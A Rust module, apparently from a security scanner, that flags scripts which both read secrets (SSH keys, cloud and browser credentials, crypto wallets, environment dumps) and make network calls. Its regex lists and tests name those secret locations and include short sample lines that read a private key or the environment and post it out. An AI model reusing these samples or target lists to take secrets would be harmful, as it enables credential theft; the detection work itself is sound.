//! Stealers' shape in a script: it reads key files, browser data, wallets or the whole
//! environment, and it also talks to the network. Either alone is ordinary; both in one script
//! is how credential stealers are built.

use crate::catalog::EXFILTRATION_SOURCE_SINK;
use crate::emit::Out;
use crate::finding::Severity;
use crate::source::Source;
use regex::Regex;

/// The patterns, compiled once per scanner.
pub(crate) struct Exfil {
    source: Regex,
    sink: Regex,
}

/// Words just before a key file that make it an identity passed to ssh, not data being read.
const IDENTITY_USES: &[&str] = &[
    "-i ",
    "identityfile",
    "ssh-add",
    "ssh-keygen",
    "chmod",
    "key_filename",
    "--identity",
    "-o ",
];

impl Exfil {
    pub(crate) fn new() -> Exfil {
        Exfil {
            source: Regex::new(
                r#"(?i)((~|\$HOME|\$\{HOME\}|expanduser\(\s*["']~|homedir\(\)|Path\.home\(\)|os\.homedir\(\)|getenv\(\s*["']HOME["']\)|USERPROFILE)[^\n]{0,60}(\.ssh|\.aws|\.gnupg|\.kube|\.docker/config|\.git-credentials|\.npmrc|\.pypirc|\.config/gcloud|Library/Keychains|Google/Chrome|\.mozilla/firefox|BraveSoftware|\.electrum|\.bitcoin|\.ethereum|Exodus|MetaMask)|["'/](id_rsa|id_ed25519|id_ecdsa)\b|\bLogin Data\b|cookies\.sqlite|\bsecurity\s+find-(generic|internet)-password\b|dict\(\s*os\.environ\s*\)|os\.environ\.items\(\)|\{\s*\*\*os\.environ\s*\}|Object\.(keys|entries)\(\s*process\.env\s*\)|JSON\.stringify\(\s*process\.env\s*\)|\bprintenv\b|Get-ChildItem\s+env:)"#,
            )
            .expect("a fixed pattern"),
            sink: Regex::new(
                r"(?i)(\brequests\.(post|put|get)\b|\burllib\.request\b|\burlopen\(|\bhttp\.client\b|\bhttpx\.|\baiohttp\b|\bsocket\.socket\(|\bsmtplib\b|\bftplib\b|\bfetch\(|\baxios\b|\bXMLHttpRequest\b|\bnet\.connect\(|\bhttps?\.request\(|\bcurl\s|\bwget\s|\bnc\s|\bncat\s|Invoke-WebRequest|Invoke-RestMethod|Net\.WebClient|\bdiscord(app)?\.com/api/webhooks|api\.telegram\.org)",
            )
            .expect("a fixed pattern"),
        }
    }

    /// One finding when a script reads secrets and talks to the network.
    pub(crate) fn check(&self, src: &Source<'_>, out: &mut Out) {
        let Some(sink) = self.sink.find(src.text) else {
            return;
        };
        let source = self.source.find_iter(src.text).find(|m| {
            let line_start = src.line_range(src.line_of(m.start())).start;
            let before = src.text[line_start..m.start()].to_ascii_lowercase();
            let near = crate::source::tail(&before, 24);
            !IDENTITY_USES.iter().any(|w| near.contains(w))
        });
        if let Some(m) = source {
            let line = src.line_text(src.line_of(m.start()));
            let sink_line = src.line_of(sink.start()) + 1;
            out.at(
                &EXFILTRATION_SOURCE_SINK,
                Severity::High,
                src,
                m.start(),
                &format!("{} (network at line {sink_line})", line.trim()),
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::source::Kind;

    fn found(text: &str) -> bool {
        let src = Source::new("scripts/a.py", text, Kind::Script);
        let mut out = Out::default();
        Exfil::new().check(&src, &mut out);
        !out.findings.is_empty()
    }

    #[test]
    fn secrets_read_and_sent_are_found() {
        assert!(found(
            "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(U, data=k)\n"
        ));
        assert!(found(
            "d = dict(os.environ)\nurllib.request.urlopen(U, json.dumps(d).encode())\n"
        ));
    }

    #[test]
    fn either_alone_or_an_identity_file_is_not() {
        assert!(!found(
            "k = open(os.path.expanduser('~/.ssh/config')).read()\nprint(k)\n"
        ));
        assert!(!found("requests.post(U, json={'a': 1})\n"));
        assert!(!found(
            "ssh -i ~/.ssh/deploy_key host true\ncurl -fsS https://api.example.com/deploy\n"
        ));
    }
}
